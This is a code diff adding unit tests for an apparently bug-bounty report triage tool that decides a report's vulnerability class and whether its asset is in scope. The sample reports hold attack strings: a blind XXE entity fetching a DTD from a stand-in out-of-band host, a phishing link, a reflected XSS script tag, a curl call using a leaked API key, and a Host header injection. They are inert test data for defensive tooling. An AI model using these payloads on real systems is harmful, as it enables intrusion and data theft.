@@ -534,6 +534,63 @@ static void test_in_scope_domains(void **state)
     assert_int_equal(t.scope, SCOPE_IN);
     triage_free(&t);
     report_destroy(&r);
+
+    /*
+     * The only URL is where the payload calls home; the asset is a host
+     * of ours named without a scheme.
+     */
+    report_make(&r, "eve@example.org", "Blind XXE", "The contact importer of "
+		"app.callhub.io resolves external entities: <!DOCTYPE r [<!ENTITY % p "
+		"SYSTEM \"http://oob.tester.example/p.dtd\"> %p;]> and my server got the hit.");
+    report_add_url(&r, "http://oob.tester.example/p.dtd");
+    classify(&r, "eve@example.org", &cfg, &t);
+    assert_string_equal(first(&t.classes), "xxe");
+    assert_int_equal(t.scope, SCOPE_IN);
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* A link given as a value (href=, ?next=) is the attacker's, not the asset. */
+    report_make(&r, "eve@example.org", "HTML injection in team name", "HTML injection: "
+		"a team name of <a href=\"https://phish.tester.example/login\">verify</a> "
+		"is rendered as a link to every member.");
+    report_add_url(&r, "https://phish.tester.example/login");
+    classify(&r, "eve@example.org", &cfg, &t);
+    assert_int_equal(t.scope, SCOPE_IN);
+    assert_false(has(&t.scope_reasons, "phish.tester.example is not in InScopeDomains"));
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* Our address, or our name inside another host, is not an asset. */
+    report_make(&r, "eve@example.org", "XSS", "Dear security@callhub.io, reflected XSS "
+		"at https://callhub.io.login-portal.example/q?s=<script>alert(1)</script>");
+    report_add_url(&r, "https://callhub.io.login-portal.example/q?s=");
+    classify(&r, "eve@example.org", &cfg, &t);
+    assert_int_equal(t.scope, SCOPE_OUT);
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* The product and its version name the asset; the vendor API is a means. */
+    report_make(&r, "eve@example.org", "Live API secret in CallHub Agent for iOS 5.2.1",
+		"Running strings on the IPA shows a production key; it works: "
+		"curl -u key: https://api.smsvendor.example/v1/messages");
+    report_add_url(&r, "https://api.smsvendor.example/v1/messages");
+    assert_int_equal(strlist_add(&r.versions, "iOS 5.2.1"), 0);
+    classify(&r, "eve@example.org", &cfg, &t);
+    assert_int_not_equal(t.scope, SCOPE_OUT);
+    strlist_free(&r.versions);
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* Only a public IP address: whose it is needs a human. */
+    report_make(&r, "eve@example.org", "Host header injection", "Sending Host: "
+		"other.example to http://198.51.100.7/ makes the reply redirect users "
+		"to that host.");
+    report_add_url(&r, "http://198.51.100.7/");
+    classify(&r, "eve@example.org", &cfg, &t);
+    assert_int_equal(t.scope, SCOPE_UNCLEAR);
+    assert_non_null(strstr(first(&t.scope_reasons), "IP address"));
+    triage_free(&t);
+    report_destroy(&r);
     sm_config_free(&cfg);
 }
 
@@ -1271,6 +1328,17 @@ static void test_scope_reasons(void **state)
     /* A listed class, but nothing tells which asset: unclear. */
     judge(&t, &r, "XSS", "I found an XSS, where can I send the details?", NULL);
     assert_int_equal(t.scope, SCOPE_UNCLEAR);
+    triage_free(&t);
+    report_destroy(&r);
+
+    /* No asset named, but the flaw described: CallHub's product, in. */
+    judge(&t, &r, "Old sessions", "After a password change my other session is "
+	  "still valid in the second browser, so an attacker who stole it can keep "
+	  "using the account.", NULL);
+    assert_string_equal(first(&t.classes), "auth");
+    assert_int_equal(t.scope, SCOPE_IN);
+    assert_true(has(&t.scope_reasons, "no asset named: the flaw described is taken "
+		    "as CallHub's (all CallHub products are in scope)"));
     triage_free(&t);
     report_destroy(&r);
 
